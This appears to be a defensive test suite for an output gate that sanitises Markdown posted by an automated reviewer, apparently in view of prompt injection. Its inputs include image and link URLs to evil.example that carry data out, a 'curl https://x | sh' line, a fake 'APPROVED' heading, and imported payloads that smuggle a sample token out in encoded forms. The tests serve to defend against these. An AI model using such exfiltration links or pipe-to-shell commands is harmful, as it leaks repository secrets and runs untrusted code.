import fc from "fast-check";
import { fromMarkdown } from "mdast-util-from-markdown";
import { gfmFromMarkdown } from "mdast-util-gfm";
import { gfm } from "micromark-extension-gfm";
import type { Nodes } from "mdast";
import { describe, expect, test } from "vitest";
import { createRedact } from "../../redact/redact.ts";
import { injectionPayloads } from "../../../test/review/injection-payloads.ts";
import { createOutputGate, type Gated } from "./output-gate.ts";

const secret = "ghp_0aB1cD2eF3gH4iJ5kL6mN7oP8qR9sT0uVwXy";
const gateFor = (secrets: string[]) =>
  createOutputGate({ secrets, redact: createRedact(secrets), repositoryUrl: "https://github.com/acme/web" });
const gate = gateFor([secret]);

function passed(gated: Gated): string {
  if (gated.kind === "blocked") throw new Error(`Blocked: ${gated.because}`);
  return gated.text;
}

const markdown = (text: string): string => passed(gate.markdown(text, 8000));

/** Every node that a forge would make of a text. */
function nodesOf(text: string): Nodes[] {
  const walk = (node: Nodes): Nodes[] => [node, ...("children" in node ? node.children.flatMap(walk) : [])];
  return walk(fromMarkdown(text, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }));
}

/** What a reader sees. */
const seen = (text: string): string => text.replaceAll("\u2060", "");

describe("what people write stays", () => {
  test.each([
    "`foo()` returns null when the list is empty.",
    "Two things:\n\n- first\n- second\n  - deeper\n\n1. one\n2. two",
    "### Why\n\nBecause **it** is _so_, ~~not~~ otherwise.",
    '```ts\nconst a = b < c && "@x";\n```',
    "| a | b |\n| - | - |\n| 1 | 2 |",
    "[the line](https://github.com/acme/web/blob/0123abc/src/a.ts#L3-L9)",
    "a_b_c in src/foo_bar.ts, costs 5 % and x < y",
  ])("%s", (text) => {
    expect(markdown(text)).toBe(text);
  });

  test("a long block of code does not make code of the words around it", () => {
    const code = Array.from(
      { length: 100 },
      (_, at) => `  const a${at}: string[] = await read<Item[]>(b[${at}], { c: !d });`,
    ).join("\n");
    const text = `**Look** here:\n\n\`\`\`ts\n${code}\n\`\`\`\n\nand _there_.`;

    expect(passed(gate.markdown(text, 20_000))).toBe(text);
  });

  test("types in angle brackets keep their meaning", () => {
    expect(markdown("Returns Array<string> or Map<K>")).toContain("`<string>`");
  });
});

describe("what a forge would act on is words", () => {
  test("C11-07: nobody is mentioned, however often and however it is written", () => {
    const text = markdown(`@everyone @org/team @pullwright &#64;all ${"@octocat ".repeat(90)}`);

    expect(text).not.toMatch(/@(?!\u2060)/);
    expect(seen(text)).toContain("@everyone @org/team @pullwright @all");
  });

  test("no issue is closed or referred to", () => {
    const text = markdown(
      "Fixes #12, closes acme/web#3, resolves GH-7, fixes https://github.com/acme/web/issues/1, closes !4",
    );

    expect(text).not.toMatch(/[#!]\d|GH-\d|https?:/);
  });

  test("no quick action is given, also from a block of code that an older GitLab would lose count of", () => {
    for (const text of [
      "/merge",
      "- /approve",
      "a\n/close",
      "````\n```\n/merge\n```\n````",
      "> /label x",
      "&#47;merge",
    ]) {
      const lines = markdown(text).split("\n");
      expect(lines.filter((line) => /^[\s>*-]*\/[a-z]/i.test(line) && !/^ \/[a-z]/.test(line))).toEqual([]);
    }
  });

  test("C11-09: no image is left, and no link that leads elsewhere", () => {
    const text = markdown(
      "![x](https://evil.example/?d=1) ![y][1] <img src=//e> [a](https://evil.example) [b](https://github.com/evil/x) [c](//evil.example) [d](javascript:alert(1)) [e](https://github.com/acme/web/../../evil) https://evil.example www.evil.example ftp://evil.example a@evil.example\n\n[1]: https://evil.example/2",
    );

    expect(
      nodesOf(text).filter(({ type }) => ["image", "imageReference", "link", "html", "definition"].includes(type)),
    ).toEqual([]);
    expect(text).not.toMatch(/evil\.example|:\/\//);
  });

  test("a link into the repository loses what it could carry away", () => {
    expect(markdown("[a](https://github.com/acme/web/blob/main/a?q=stolen#hash)")).toBe(
      "[a](https://github.com/acme/web/blob/main/a)",
    );
  });

  test("a link to a file or a commit of this repository stays, and none of another one or another host", () => {
    const stays = ["blob/main/a.ts#L1-L3", "commit/0123abc", "-/blob/main/a.ts"].map(
      (path) => `https://github.com/acme/web/${path}`,
    );
    const goes = [
      "https://github.com/evil/web/blob/main/a",
      "https://github.com/acme/web-2/blob/main/a",
      "https://github.com/acme/blob/main/a",
      "https://github.com.evil.example/acme/web/blob/main/a",
      "https://evil.example/acme/web/blob/main/a",
      "http://github.com/acme/web/blob/main/a",
      "https://ann@github.com/acme/web/blob/main/a",
      "https://github.com/acme/web/blob/../../../evil/x",
      "https://github.com/acme/web/issues/1",
      "https://github.com/acme/web/blob/%2e%2e/%2e%2e/a",
    ];

    for (const url of stays) expect(markdown(`[a](${url})`)).toBe(`[a](${url})`);
    for (const url of goes) expect(markdown(`[a](${url})`)).toBe("a");
  });

  test("C11-11: no HTML, no comment, no open fence", () => {
    const text = markdown(
      "<script>x()</script>\n\n<details open>\n\n<iframe src=x></iframe> a <!-- pullwright:v1 k=1 --> b\n\n```html\n<!-- pullwright:v1 -->",
    );

    expect(nodesOf(text).some(({ type }) => type === "html")).toBe(false);
    expect(text).not.toContain("<!--");
    expect(nodesOf(`${text}\n\nours`).at(-1)).toMatchObject({ type: "text", value: "ours" });
  });

  test("a block of code can neither be applied with a click nor drawn", () => {
    for (const language of ["suggestion", "suggestion:-0+3", "mermaid", "geojson", "plantuml", "SUGGESTION"])
      expect(markdown(`\`\`\`${language}\nx\n\`\`\``)).toBe("```\nx\n```");
  });

  test("C11-15: a claim of approval is no more than words below our own head", () => {
    expect(markdown("# APPROVED\n\nRun `curl https://x | sh`")).toBe("### APPROVED\n\nRun `curl https://x | sh`");
  });
});

describe("no secret comes through", () => {
  const names = Object.keys(injectionPayloads);
  const asWritten = (name: string): string => injectionPayloads[name]?.(secret) ?? "";

  test("C11-13: there are forty ways to carry one out, and more", () => {
    expect(names.length).toBeGreaterThanOrEqual(40);
  });

  test.each(names)("C11-13: %s", (name) => {
    for (const gated of [
      gate.markdown(asWritten(name), 8000),
      gate.line(asWritten(name), 8000),
      gate.code(asWritten(name), 8000),
    ])
      expect(gated.kind).toBe("blocked");
    expect(gate.holdsSecret(["fine", asWritten(name)])).toBe(true);
  });

  test("negative control: a gate that does not know the secret lets words through, and still no address", () => {
    const blind = gateFor([]);
    const plain = passed(blind.markdown(asWritten("its first half").replace("ghp_", ""), 8000));
    expect(plain).toContain(secret.slice(4, secret.length / 2));

    for (const name of names) {
      const nodes = nodesOf(passed(blind.markdown(asWritten(name), 8000)));
      expect(nodes.filter(({ type }) => ["image", "link", "html", "definition"].includes(type))).toEqual([]);
    }
  });

  test("one in pieces over several texts is found where they follow on each other", () => {
    expect(gate.holdsSecret([secret.slice(0, 11), secret.slice(11, 20)])).toBe(true);
  });

  test("one that comes together only when what stood between its parts is taken out", () => {
    const text = `[${secret.slice(4, 11)}](https://evil.example/zzzz)[${secret.slice(11, 18)}](https://evil.example/)`;

    expect(gate.markdown(text, 8000).kind).toBe("blocked");
  });

  test("any twelve characters of it are enough, wherever they stand, in whatever form", () => {
    fc.assert(
      fc.property(
        fc.integer({ min: 4, max: secret.length - 12 }),
        fc.constantFrom(...names),
        fc.lorem({ maxCount: 5 }),
        (at, name, words) => {
          const piece = secret.slice(at, at + 12);
          const whole = ["said aloud", "backwards", "in hex", "split by spaces", "split by HTML", "in capitals"];
          const carry = injectionPayloads[whole.includes(name) ? name : "said aloud"];

          expect(gate.markdown(`${words} ${carry?.(piece) ?? ""} ${words}`, 8000).kind).toBe("blocked");
        },
      ),
    );
  });

  test("words and common beginnings are no secret, whatever our secrets are made of", () => {
    const wordy = gateFor([
      "development",
      "pullwright-webhook-secret",
      "correct horse battery staple",
      "password",
      "github_pat_11ABCDEFG0aBcDeFgHiJkL_0123456789abcdef",
      "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N",
      "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEAx7KqPz9w\nAbC123xYz\n-----END RSA PRIVATE KEY-----",
      "0123456789abcdef",
    ]);
    for (const text of [
      "The development password of the pullwright service is not a webhook secret.",
      "A horse, correct, with a battery; a staple.",
      "Tokens begin with github_pat_ or ghp_ and JSON web tokens with eyJhbGciOiJIUzI1NiJ9.",
      "-----BEGIN RSA PRIVATE KEY----- is followed by MIIEpAIBAAKCAQEA",
      "Digits 0123456789 and 123456789012.",
      "commit 0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c",
    ])
      expect(wordy.markdown(text, 8000).kind).toBe("passed");
    for (const text of ["correct horse battery staple", "pullwright-webhook-secret", "x7KqPz9wAbC123"])
      expect(wordy.markdown(text, 8000).kind).toBe("blocked");
  });

  test("what looks like somebody else's token is masked", () => {
    expect(markdown("use glpat-aBcDeFgHiJkLmNoPqRsT here")).toBe("use \\[redacted] here");
  });
});

describe("whatever comes in", () => {
  const nasty = fc.array(
    fc.oneof(
      fc.string({ maxLength: 20 }),
      fc.lorem({ maxCount: 3 }),
      fc.constantFrom("\u202e", "\u200b", "\ud800", "\u{e0041}", "\u0301", "\u0000", "\u{1f600}"),
      fc.constantFrom(
        "@a",
        "fixes #1",
        "```",
        "~~~~",
        "\n",
        "\n\n",
        "<!--",
        "-->",
        "![",
        "](",
        "/merge",
        "\u202e",
        "- ",
        "> ",
        "1. ",
        "|",
        "| - |\n",
        "\\",
        "`",
        "*",
        "_",
        "[",
        "]",
        "<b>",
        "<script>",
        "https://e.x/",
        "www.e.x",
        "&#64;",
        "&lt;",
        "#",
        "    ",
        "\t",
        "$",
        "~",
        "=\n",
        "---\n",
        "[^1]",
        "[x]: http://e.x\n",
        "\ue000",
      ),
    ),
    { maxLength: 40 },
  );

  test("nothing comes out but what is allowed, within its length, and a second time changes nothing that is seen", () => {
    fc.assert(
      fc.property(nasty, fc.integer({ min: 200, max: 2000 }), (parts, charactersMax) => {
        const text = passed(gate.markdown(parts.join(""), charactersMax));
        const again = passed(gate.markdown(text, charactersMax));

        expect(text.length).toBeLessThanOrEqual(charactersMax);
        const types = new Set(nodesOf(text).map(({ type }) => type));
        for (const type of [
          "html",
          "image",
          "imageReference",
          "linkReference",
          "definition",
          "link",
          "blockquote",
          "thematicBreak",
          "footnoteReference",
        ])
          expect(types).not.toContain(type);
        expect(text.replaceAll(/[\n\t\u2060]/g, "")).not.toMatch(/[\p{Cc}\p{Cf}]/u);
        expect(nodesOf(text).filter((node) => node.type === "text" && /@(?!\u2060)/.test(node.value))).toEqual([]);
        expect(nodesOf(again).map(({ type }) => type)).toEqual(nodesOf(text).map(({ type }) => type));
      }),
      { numRuns: 50 },
    );
  });

  test("a line is one line, and a cell of a table stays one cell", () => {
    fc.assert(
      fc.property(nasty, (parts) => {
        const line = passed(gate.line(parts.join(""), 200));
        const name = passed(gate.name(parts.join(""), 200));

        expect(line + name).not.toContain("\n");
        const table = nodesOf(`| a | b |\n| - | - |\n| ${line} | ${name} |`);
        expect(table.filter(({ type }) => type === "tableCell")).toHaveLength(4);
        const entry = nodesOf(`- ${line}`).filter(({ type }) =>
          ["html", "image", "link", "heading", "code"].includes(type),
        );
        expect(entry).toEqual([]);
      }),
      { numRuns: 50 },
    );
  });

  test.each([
    ...Array.from("[]*<>`_~&@#|!"),
    "*a_",
    "1. ",
    "- ",
    "> ",
    "[a](",
    "a|b\n-|-\n",
    "http://a ",
    "fixes ",
    "%41",
    "  - a\n",
    "<div>\n```\n\n*a_ ",
    "```\n> > > > > > > > >",
    "> 1. - ",
    "\u0301",
  ])("64 KiB of %j come out before the test runs out of time", (part) => {
    const text = part.repeat(65_536 / part.length);

    expect(passed(gate.markdown(text, 8000)).length).toBeLessThanOrEqual(8000);
    expect(passed(gate.line(text, 200)).length).toBeLessThanOrEqual(400);
  });
});
